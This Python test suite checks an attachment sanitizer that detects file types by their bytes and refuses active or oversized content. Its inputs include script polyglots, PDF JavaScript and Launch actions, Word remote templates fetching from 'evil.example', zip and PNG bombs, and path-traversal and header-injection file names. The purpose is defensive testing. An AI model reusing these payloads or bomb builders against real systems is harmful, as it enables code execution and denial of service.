"""What people attach: told by its bytes, nothing in it runs, and never too much of it."""

import io
import time
import zipfile
import zlib

import pytest
from PIL import Image

from gonghui.kernel.attachments import (
    DOCX,
    GIF,
    JPEG,
    PDF,
    PNG,
    TEXT,
    WEBP,
    XLSX,
    ActiveContent,
    Caps,
    DamagedFile,
    EmptyAttachment,
    FileTooHeavy,
    Incoming,
    KindNotAccepted,
    TogetherTooHeavy,
    TooManyFiles,
    UnfoldsTooBig,
    prepare,
)  # fmt: skip
from gonghui.kernel.attachments.names import kept_name
from gonghui.kernel.pictures import BadPicture, HeicPicture, PictureTooLarge, PictureUnreadable
from gonghui.kernel.workbooks import workbook

from .spoken import assert_speaks
from .test_pictures import bomb, photograph

EVERYTHING = Caps(kinds=(JPEG, PNG, WEBP, GIF, PDF, DOCX, XLSX, TEXT), most=5)
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def one(data, name="附件", caps=EVERYTHING):
    [made] = prepare([Incoming(name, data)], caps)
    return made


def refused(expected, data, name="附件", caps=EVERYTHING):
    with pytest.raises(expected) as caught:
        one(data, name, caps)
    assert_speaks(caught.value)
    return caught.value


def document(main=MAIN, compression=zipfile.ZIP_DEFLATED, **parts):
    """A Word document of the fewest parts, and `parts` beside them by name."""
    types = f'<Types xmlns="urn:t"><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in {"[Content_Types].xml": types, "word/document.xml": "<w/>", **parts}.items():
            archive.writestr(name, content)
    return out.getvalue()


def pdf(*objects, end=b"%%EOF\n"):
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (at, each) for at, each in enumerate(objects, start=1))
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R>>\nstartxref\n9\n" + end


def packed(content, says=b"/Type/ObjStm/N 1/First 5", between=b"\n"):
    """An object stream."""
    body = zlib.compress(content)
    return b"<<%s/Filter/FlateDecode/Length %d>>%sstream\n%s\nendstream" % (says, len(body), between, body)


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP", "GIF"])
def test_a_picture_of_any_kind_is_kept_as_a_small_jpeg(kind):
    data = photograph(2000, 1000, kind) if kind != "GIF" else moving()
    made = one(data, "门口.exe")
    assert (made.kind, made.name, made.only_download) == (JPEG, "门口.jpg", False)
    assert made.data.startswith(b"\xff\xd8")
    assert Image.open(io.BytesIO(made.small)).size == (480, 240)
    assert (made.width, made.height) == (1600, 800)


def moving():
    frames = [Image.new("P", (2000, 1000), color) for color in (0, 1)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    return out.getvalue()


def test_of_a_picture_that_is_a_script_too_only_the_pixels_are_left():
    evil = moving() + b"/*<script>alert(1)</script>*/=1;alert(2)"
    made = one(evil, "a.js")
    assert b"alert" not in made.data + made.small
    assert made.name == "a.jpg"


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (bomb(), PictureTooLarge),
        (photograph(2000, 2000)[:4000], PictureUnreadable),
        (photograph(400, 300).replace(b"\xff\xda", b"\xff\xda" * 70, 1), PictureUnreadable),
        (b"RIFF\xff\xff\0\0WEBPVP8X\n\0\0\0\x02\0\0\0\xff\xff\0\xff\xff\0" + bytes(60), PictureUnreadable),
        (b"\0\0\0\x18ftypheic" + bytes(80), HeicPicture),
    ],
    ids=["a png bomb", "half a photograph", "a jpeg of seventy scans", "a webp canvas of four billion", "heic"],
)
def test_a_picture_that_would_hurt_is_refused_at_once(data, expected):
    starts = time.process_time()
    assert refused(expected, data, "照片.png").file == "照片.png"
    assert time.process_time() - starts < 1


def test_the_office_says_how_small_a_picture_may_be():
    with pytest.raises(BadPicture):
        one(photograph(199, 300), caps=Caps(kinds=(JPEG,), least_side=200))
    assert one(photograph(199, 300), caps=Caps(kinds=(JPEG,))).width == 199


def test_a_document_is_kept_as_it_came():
    data = pdf(CATALOGUE)
    made = one(data, "通知.docx")
    assert (made.kind, made.data, made.name, made.only_download, made.small) == (PDF, data, "通知.pdf", False, b"")
    made = one(document(), "通知.pdf")
    assert (made.kind, made.name, made.only_download) == (DOCX, "通知.docx", True)
    assert one(workbook(["甲"], [["乙"]])).kind == XLSX


def test_text_becomes_utf8_whatever_it_was():
    for encoding in ("utf-8", "gb18030", "utf-16", "utf-8-sig"):
        made = one("第一条\r\n第二条".encode(encoding), "须知")
        assert (made.kind, made.data.decode(), made.name) == (TEXT, "第一条\r\n第二条", "须知.txt")


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "网页或 XML"),
        (b"\xef\xbb\xbf \n<!DOCTYPE html><script>alert(1)</script>", "网页或 XML"),
        ("<script>1</script>".encode("utf-16"), "网页或 XML"),
        (b"MZ\x90\0" + bytes(400), "程序文件"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(400), ".doc"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "打开密码"),
        (b"Rar!\x1a\x07" + bytes(99), "压缩包"),
        (b"\0\0\0\x18ftypmp42" + bytes(99), "录像"),
        (bytes(range(256)), "认不出的文件"),
        (b"\0" * 500, "认不出的文件"),
        (b"PK\x05\x06" + bytes(18), "压缩包"),
    ],
)
def test_what_is_not_taken_is_called_by_its_name(data, what):
    refusal = refused(KindNotAccepted, data, "a.pdf")
    assert what in refusal.sentence()
    assert "PDF 文档" in refusal.advice()


def test_only_the_kinds_asked_for_are_taken():
    caps = Caps(kinds=(JPEG, PNG))
    assert "PDF" in refused(KindNotAccepted, pdf(CATALOGUE), caps=caps).sentence()
    assert "纯文本" in refused(KindNotAccepted, b"text", caps=caps).sentence()
    assert "GIF" in refused(KindNotAccepted, moving(), caps=caps).sentence()
    refused(KindNotAccepted, b"\0\0\0\x18ftypheic" + bytes(80), caps=Caps(kinds=(PDF,)))


SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"


@pytest.mark.parametrize(
    "data",
    [
        pdf(CATALOGUE, SCRIPT),
        pdf(CATALOGUE, SCRIPT.replace(b"/JavaScript", b"/J#61vaScri#70t")),
        pdf(CATALOGUE, packed(b"3 0 " + SCRIPT)),
        pdf(CATALOGUE, packed(b"3 0 " + SCRIPT, between=b" %stream\n")),
        pdf(CATALOGUE, packed(b"3 0 " + SCRIPT, between=b"%x" + b" " * 100_000 + b"\r\n")),
        pdf(CATALOGUE, packed(b"3 0 " + SCRIPT, says=b"/Type/Obj#53tm/N 1/F#69rst 4")),
        pdf(CATALOGUE, packed(b"x" * 200_000 + SCRIPT)),
        pdf(CATALOGUE, packed(b"nothing"), packed(b"3 0 " + SCRIPT)),
        pdf(CATALOGUE, b"<</S/Launch/F(cmd.exe)>>"),
        pdf(CATALOGUE, b"<</AcroForm<</XFA 9 0 R>>>>"),
        pdf(CATALOGUE, b"<</Length 9>>\nstream\n" + SCRIPT + b"\nendstream"),
    ],
)
def test_a_pdf_that_runs_something_is_refused(data):
    with pytest.raises((ActiveContent, DamagedFile)):
        one(data)


def test_a_pdf_that_holds_files_or_is_locked_is_only_for_download():
    assert one(pdf(CATALOGUE, b"<</Type/Filespec/EF<</F 9 0 R>>>>")).only_download
    assert one(pdf(CATALOGUE, packed(b"4 0 <</EmbeddedFiles 5 0 R>>"))).only_download
    assert one(pdf(CATALOGUE, b"<</Encrypt 3 0 R>>", b"<</Length 8>>\nstream\n12345678\nendstream")).only_download
    assert not one(pdf(CATALOGUE, packed(b"4 0 <</Type/Page>>"), b"(a text on JavaScript)")).only_download


@pytest.mark.parametrize(
    "data",
    [
        pdf(CATALOGUE)[:-9],
        pdf(CATALOGUE) + b"PK\x03\x04 and a whole package",
        pdf(b"<</Title(<html><script>1</script>)>>"),
        pdf(CATALOGUE, packed(b"x" * 5000)).replace(b"x\x9c", b"xx", 1),
        pdf(CATALOGUE, b"<</Type/ObjStm/Filter/LZWDecode>>\nstream\n\x80\x0b`P\nendstream"),
    ],
    ids=["cut off", "a package behind it", "a page in front", "a broken object stream", "another packing"],
)
def test_a_pdf_that_cannot_be_looked_through_is_refused(data):
    refused(DamagedFile, data)


def test_a_pdf_that_unfolds_to_gigabytes_is_refused_soon():
    starts = time.process_time()
    refused(UnfoldsTooBig, pdf(CATALOGUE, *[packed(bytes(30_000_000))] * 9))
    assert time.process_time() - starts < 3


def relation(sort, target):
    return f'<R><Relationship Type="{RELATION}{sort}" Target="{target}" TargetMode="External"/></R>'


@pytest.mark.parametrize(
    "parts",
    [
        {"word/vbaProject.bin": "x"},
        {"word/activeX/activeX1.xml": "x"},
        {"xl/macrosheets/sheet1.xml": "x"},
        {"word/embeddings/run.exe": "x"},
        {"main": MAIN.replace("document.main", "document.macroEnabled.main")},
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm")},
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", "&#104;ttp://evil.example/t.dotm")},
        {"word/_rels/document.xml.rels": relation("oleObject", r"\\evil\share\a.rtf")},
        {"word/_rels/document.xml.rels": relation("frame", "file://evil/share/a.htm")},
    ],
)
def test_a_document_that_runs_or_fetches_something_is_refused(parts):
    refused(ActiveContent, document(**parts))


def test_a_link_and_a_template_of_ones_own_machine_are_welcome():
    own = relation("attachedTemplate", "file:///C:\\Users\\l\\a.dotx")
    link = relation("hyperlink", "https://example.org")
    assert one(document(**{"word/_rels/settings.xml.rels": own, "word/_rels/document.xml.rels": link})).kind == DOCX


def zip_bomb():
    """A few hundred kilobytes that unfold to a gigabyte."""
    out, part = io.BytesIO(document()), bytes(1024 * 1024)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as more, more.open("word/m.bin", "w") as into:
        for _ in range(1024):
            into.write(part)
    return out.getvalue()


def lying_bomb():
    """The same, and its directory says that it is small."""
    data = zip_bomb()
    return data.replace((1024**3).to_bytes(4, "little"), (999).to_bytes(4, "little"))


@pytest.mark.parametrize(("data", "expected"), [(zip_bomb(), UnfoldsTooBig), (lying_bomb(), DamagedFile)])
def test_a_zip_bomb_is_refused_soon(data, expected):
    starts = time.process_time()
    refused(expected, data)
    assert time.process_time() - starts < 3


@pytest.mark.parametrize(
    "data",
    [
        document()[:-30],
        document() + b"tail",
        document(**{"../../evil.xml": "x"}),
        document(**{"Word/Document.xml": "another"}),
        document(**{"word/_rels/document.xml.rels": "<!DOCTYPE x [<!ENTITY a 'b'>]><R/>"}),
        document().replace(b"<w/>", b"<v/>") if b"<w/>" in document() else b"PK\x03\x04",
        document(compression=zipfile.ZIP_STORED).replace(b"<w/>", b"<v/>"),
    ],
    ids=["cut off", "a tail", "a path", "twice", "entities", "no package", "changed"],
)
def test_a_package_that_is_not_whole_or_more_than_one_thing_is_refused(data):
    refused(DamagedFile, data)


@pytest.mark.parametrize(
    ("name", "what"),
    [("ppt/presentation.xml", "PPT"), ("OFD.xml", "OFD"), ("a.txt", "压缩包"), ("META-INF/MANIFEST.MF", "程序文件")],
)
def test_other_packages_are_called_by_their_name(name, what):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, "x")
    assert what in refused(KindNotAccepted, out.getvalue()).sentence()


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd", "passwd.jpg"),
        ("C:\\temp\\照片.PNG", "照片.jpg"),
        ("发票\u202egpj.exe", "发票gpj.jpg"),
        ("a\nb\r\nX-Evil: 1.jpg", "abX-Evil_ 1.jpg"),
        ("a\0.jpg", "a.jpg"),
        (".htaccess", "附件.jpg"),
        ("a.pdf.exe", "a.jpg"),
        ("v1.2 说明", "v1.2 说明.jpg"),
        ("", "附件.jpg"),
        ("...", "附件.jpg"),
        ('"><b>.jpg', "___b_.jpg"),
    ],
)
def test_a_name_keeps_what_people_read_and_nothing_that_misleads(name, kept):
    assert kept_name(name, JPEG) == kept


def test_a_name_of_three_hundred_characters_is_cut():
    assert len(kept_name("长" * 300 + ".jpg", DOCX)) <= 100
    assert kept_name("长" * 300 + ".jpg", DOCX).endswith("长.docx")


def test_the_files_of_one_act_are_bounded_together(monkeypatch):
    small = Caps(kinds=(TEXT,), most=2, most_bytes=3 * 2**20, most_bytes_together=4 * 2**20)
    many = [Incoming(f"{at}", b"a" * 3 * 2**20) for at in range(3)]
    for files, expected in ((many, TooManyFiles), (many[:2], TogetherTooHeavy)):
        with pytest.raises(expected) as caught:
            prepare(files, small)
        assert_speaks(caught.value)
    assert "4 MB" in refused(FileTooHeavy, b"a" * (3 * 2**20 + 1), caps=small).sentence()
    refused(EmptyAttachment, b"")


def test_one_bad_file_of_an_act_is_named_and_none_is_made():
    with pytest.raises(PictureUnreadable) as caught:
        prepare([Incoming("好.jpg", photograph()), Incoming("坏.jpg", b"\xff\xd8\xff\xe0" + bytes(99))], EVERYTHING)
    assert caught.value.file == "坏.jpg"
